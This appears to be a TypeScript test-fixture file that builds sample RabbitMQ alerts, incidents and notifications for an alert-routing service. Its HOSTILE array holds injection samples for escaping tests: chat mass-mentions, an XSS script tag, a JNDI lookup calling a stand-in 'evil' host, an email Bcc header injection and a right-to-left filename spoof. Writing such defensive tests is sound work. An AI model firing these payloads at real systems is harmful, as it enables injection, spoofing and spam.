import type { Alert, Incident, Notification } from '#contracts';

export const NOW = Date.UTC(2026, 10, 30, 22, 0, 0);

/** An alert of RabbitMQ. */
export function alertOf(changes: Partial<Alert> = {}): Alert {
  return {
    fingerprint: '0011223344556677',
    group: 'etl-alerts',
    rule: 'RabbitMqDown',
    labels: { alertname: 'RabbitMqDown', severity: 'critical', queue: 'payments' },
    annotations: { summary: 'RabbitMQ does not answer', description: 'No connection for five minutes.' },
    severity: 'critical',
    state: 'firing',
    value: 1,
    activeAtMs: NOW - 360_000,
    firedAtMs: NOW - 60_000,
    generatorUrl: 'https://app.example.com/graph?g0.expr=up%20%3D%3D%200',
    ...changes,
  };
}

export function incidentOf(changes: Partial<Incident> = {}): Incident {
  return {
    id: '01JDZK5Q9W0000000000000000',
    title: 'RabbitMqDown',
    state: 'triggered',
    severity: 'critical',
    channels: ['c'],
    groupLabels: { alertname: 'RabbitMqDown' },
    alerts: [alertOf()],
    openedAtMs: NOW - 60_000,
    updatedAtMs: NOW,
    ...changes,
  };
}

/** A message that an incident was opened. */
export function notificationOf(changes: Partial<Notification> = {}): Notification {
  const alerts = changes.alerts ?? [alertOf()];
  const [first] = alerts;
  return {
    idempotencyKey: 'key-1',
    reason: 'opened',
    status: 'firing',
    incident: incidentOf({ alerts }),
    alerts,
    commonLabels: first?.labels ?? {},
    commonAnnotations: first?.annotations ?? {},
    externalUrl: 'https://app.example.com',
    timeMs: NOW,
    ...changes,
  };
}

/** The same incident, resolved. */
export function resolvedOf(changes: Partial<Notification> = {}): Notification {
  const alert = alertOf({ state: 'resolved', resolvedAtMs: NOW + 60_000 });
  const incident = incidentOf({
    state: 'resolved',
    alerts: [alert],
    resolved: { atMs: NOW + 60_000 },
  });
  return notificationOf({
    idempotencyKey: 'key-9',
    reason: 'resolved',
    status: 'resolved',
    alerts: [alert],
    incident,
    timeMs: NOW + 60_000,
    ...changes,
  });
}

/** Texts that would do harm or be lost where a receiver interprets markup. */
export const HOSTILE = [
  '<!channel> <!here> <@U012345> <https://evil.example|click>',
  '@everyone @here <@123456789> <@&42>',
  '[click](https://evil.example) **bold** `code` # title ~~no~~ ||spoiler||',
  '<script>alert(1)</script><img src=x onerror=alert(1)>&amp;"\'',
  '<b>not bold</b><a href="https://evil.example">x</a>',
  '{{ .Labels }} ${jndi:ldap://evil}',
  'line\r\nBcc: victim@example.com\n\nbody',
  '\u202etxt.exe \u0000\u0007 \ud800 end',
  '👩‍👩‍👧‍👦'.repeat(50),
];

/** An incident with `count` alerts, each with hostile texts. */
export function hugeOf(count: number): Notification {
  const alerts = Array.from({ length: count }, (_, index) => {
    const text = HOSTILE[index % HOSTILE.length]!;
    return alertOf({
      fingerprint: index.toString(16).padStart(16, '0'),
      rule: `Rule ${index % 5} ${text}`,
      labels: { alertname: `Rule ${index % 5}`, instance: `host-${index}`, text },
      annotations: { summary: text, description: text.repeat(20) },
    });
  });
  return notificationOf({
    alerts,
    commonLabels: { severity: HOSTILE[0]! },
    commonAnnotations: { summary: HOSTILE.join(' '), description: HOSTILE.join('\n').repeat(100) },
  });
}
